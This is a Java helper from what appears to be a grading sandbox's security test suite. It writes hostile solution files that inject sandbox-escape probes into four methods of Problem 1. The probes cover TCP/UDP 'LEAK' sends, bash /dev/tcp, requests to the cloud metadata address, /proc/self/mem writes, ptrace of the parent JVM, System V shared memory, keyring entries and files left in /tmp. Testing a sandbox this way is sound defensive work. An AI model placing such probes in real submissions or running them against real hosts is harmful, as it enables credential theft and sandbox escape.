package dev.shardlings.grader.hostile;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

/**
 * The third round of attacks (issue 44): on the machine rather than the grade. The reference solutions, with code put
 * at the start of four methods of Problem 1 that reaches for the network, leaves files behind, and reaches for the
 * sandbox JVM's own memory from inside and from a child process. The network and file attacks keep every value right
 * (they swallow what they meet), so their parts keep full marks and only the test's own listeners and the file system
 * say whether they got through; the memory attacks go on into the reference code when their barrier gives way (full
 * marks) and fail their part with a reason the test names when it holds.
 *
 * <p>Not a test itself (the name does not end in Test): it writes Java sources.
 */
public final class OsAttacks {

    /**
     * 1.1a: TCP to every target, UDP to every UDP target, a DNS lookup and HTTP to the cloud's metadata address, at
     * every call; values unchanged.
     */
    public static final String NETWORK_PART = "1.1a";
    /** 1.1b: {@code /proc/self/mem} opened for writing; throws "/proc/self/mem refused" when it cannot be. */
    public static final String PROC_MEM_PART = "1.1b";
    /**
     * 1.2a: child processes, once: bash's /dev/tcp to every TCP target; a Python that sends a datagram to a Unix
     * socket path through a socketpair (made without socket(2)), makes a System V shared memory segment with key
     * {@link #SHM_KEY} and a key in its user's keyring (state that would outlive the sandbox); one that asks to ptrace
     * the sandbox JVM. Prints what each got ({@link #PTRACE_REFUSED} …). Starting a process fails the part on its own
     * (the JDK's process reaper is a thread the call leaves running): the listeners and the prints tell the barriers.
     */
    public static final String PTRACE_PART = "1.2a";
    /** What the ptrace attack prints when the kernel refused it. */
    public static final String PTRACE_REFUSED = "ptrace of the sandbox JVM: refused";
    /** What the ptrace attack prints when it attached (and detached again). */
    public static final String PTRACE_ATTACHED = "ptrace of the sandbox JVM: ATTACHED";
    /** The System V key of the segment the children attack tries to leave ("SHRL"). */
    public static final int SHM_KEY = 0x5348524c;
    /** What the children attack prints when System V IPC and the keyring were refused. */
    public static final String IPC_REFUSED = "sysv shm: refused";
    /** What the children attack prints when the keyring was refused. */
    public static final String KEYRING_REFUSED = "keyring: refused";
    /** What the children attack prints when a socketpair's datagram could not be sent. */
    public static final String UNIX_DATAGRAM_REFUSED = "unix datagram: refused";
    /** 1.2b: files written to /tmp, /var/tmp, /dev/shm, java.io.tmpdir and the home folder; values unchanged. */
    public static final String FILES_PART = "1.2b";

    private OsAttacks() {
    }

    /**
     * Writes the hostile course files into {@code dir}.
     *
     * @param tcp      HOST:PORT of TCP listeners the network attack connects to
     * @param udp      HOST:PORT of UDP listeners it sends a datagram to
     * @param fileName the name of every file the files attack leaves (unique per test run)
     */
    public static void write(Path solutions, Path dir, List<String> tcp, List<String> udp, String fileName)
            throws IOException {
        write(solutions, dir, tcp, udp, null, fileName);
    }

    /**
     * Writes the hostile course files into {@code dir}.
     *
     * @param tcp        HOST:PORT of TCP listeners the network attack connects to
     * @param udp        HOST:PORT of UDP listeners it sends a datagram to
     * @param unixSocket the path of a Unix datagram socket the children attack sends to (null: none)
     * @param fileName   the name of every file the files attack leaves (unique per test run)
     */
    public static void write(Path solutions, Path dir, List<String> tcp, List<String> udp, Path unixSocket,
                             String fileName) throws IOException {
        StringBuilder net = new StringBuilder("{ for (String t : new String[]{" + quoted(tcp) + "}) {"
                + " int c = t.lastIndexOf(':');"
                + " try (java.net.Socket s = new java.net.Socket()) { s.connect(new java.net.InetSocketAddress("
                + "t.substring(0, c), Integer.parseInt(t.substring(c + 1))), 1000);"
                + " s.getOutputStream().write(\"LEAK\".getBytes()); } catch (Exception e) { } }"
                + " for (String t : new String[]{" + quoted(udp) + "}) { int c = t.lastIndexOf(':');"
                + " try (java.net.DatagramSocket s = new java.net.DatagramSocket()) { byte[] b = \"LEAK\".getBytes();"
                + " s.send(new java.net.DatagramPacket(b, b.length, new java.net.InetSocketAddress(t.substring(0, c),"
                + " Integer.parseInt(t.substring(c + 1))))); } catch (Exception e) { } }"
                + " try { java.net.InetAddress.getByName(\"example.com\"); } catch (Exception e) { }"
                + " try { java.net.HttpURLConnection h = (java.net.HttpURLConnection) java.net.URI.create("
                + "\"http://169.254.169.254/latest/meta-data/\").toURL().openConnection(); h.setConnectTimeout(1000);"
                + " h.setReadTimeout(1000); h.getResponseCode(); } catch (Exception e) { } }");
        String files = "{ for (String d : new String[]{\"/tmp\", \"/var/tmp\", \"/dev/shm\","
                + " System.getProperty(\"java.io.tmpdir\"), System.getProperty(\"user.home\"), System.getenv(\"TMPDIR\")}) {"
                + " try { java.nio.file.Files.writeString(java.nio.file.Path.of(d, \"" + fileName + "\"),"
                + " \"left behind\"); } catch (Exception e) { } } }";
        String procMem = "try (java.io.RandomAccessFile f = new java.io.RandomAccessFile(\"/proc/self/mem\", \"rw\")) { }"
                + " catch (java.io.IOException e) { throw new IllegalStateException(\"/proc/self/mem refused: \""
                + " + e.getMessage()); }";
        StringBuilder children = new StringBuilder("if (System.getProperty(\"hostile.children\") == null) {"
                + " System.setProperty(\"hostile.children\", \"1\"); try {");
        for (String t : tcp) {
            int c = t.lastIndexOf(':');
            children.append(" new ProcessBuilder(\"bash\", \"-c\", \"echo LEAK > /dev/tcp/").append(t, 0, c)
                    .append('/').append(t.substring(c + 1)).append("\").redirectErrorStream(true)"
                    + ".redirectOutput(ProcessBuilder.Redirect.DISCARD).start().waitFor();");
        }
        String py = String.join("\n",
                "import ctypes, os, socket",
                "try:",
                "    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)",
                "    a.sendto(b'LEAK', '" + (unixSocket == null ? "/nonexistent" : unixSocket) + "')",
                "    print('unix datagram: SENT')",
                "except OSError:",
                "    print('" + UNIX_DATAGRAM_REFUSED + "')",
                "libc = ctypes.CDLL(None, use_errno=True)",
                "libc.syscall.restype = ctypes.c_long",
                "print('sysv shm: MADE' if libc.shmget(" + SHM_KEY + ", 4096, 0o1666) >= 0 else '" + IPC_REFUSED
                        + "')",
                "k = libc.syscall(248 if os.uname().machine == 'x86_64' else 217, b'user', b'shardlings-attack',"
                        + " b'x', ctypes.c_size_t(1), ctypes.c_int(-4))",
                "print('keyring: MADE' if k >= 0 else '" + KEYRING_REFUSED + "')");
        children.append(" { Process q = new ProcessBuilder(\"python3\", \"-c\", ").append(javaString(py))
                .append(").redirectErrorStream(true).start(); System.out.print(new String(q.getInputStream()"
                        + ".readAllBytes())); q.waitFor(); }");
        children.append(" Process p = new ProcessBuilder(\"python3\", \"-c\", \"import ctypes, os, sys;"
                + " l = ctypes.CDLL(None, use_errno=True); r = l.ptrace(16, os.getppid(), 0, 0);"
                + " r == 0 and l.ptrace(17, os.getppid(), 0, 0); sys.exit(0 if r == 0 else 1)\").start();"
                + " System.out.println(p.waitFor() == 0 ? \"" + PTRACE_ATTACHED + "\" : \"" + PTRACE_REFUSED + "\");"
                + " System.out.flush(); } catch (java.io.IOException | InterruptedException e) {"
                + " throw new IllegalStateException(e); } }");
        String ptrace = children.toString();
        Files.createDirectories(dir);
        for (String file : dev.shardlings.grader.sandbox.CourseClasses.FILES) {
            String src = Files.readString(solutions.resolve(file));
            if (file.equals("Problem1.java")) {
                src = HostileSubmission.inject(src, "perShardMean", net.toString());
                src = HostileSubmission.inject(src, "perShardMeanGlobal", procMem);
                src = HostileSubmission.inject(src, "rollWithinShards", ptrace);
                src = HostileSubmission.inject(src, "rollWithinShardsGlobal", files);
            }
            Files.writeString(dir.resolve(file), src);
        }
    }

    /** The folders every user may write to, where the files attack leaves a file (its own folders aside). */
    public static final List<Path> SHARED_FOLDERS = List.of(Path.of("/tmp"), Path.of("/var/tmp"), Path.of("/dev/shm"));

    private static String javaString(String s) {
        return "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }

    private static String quoted(List<String> items) {
        return String.join(", ", items.stream().map(s -> "\"" + s + "\"").toList());
    }
}
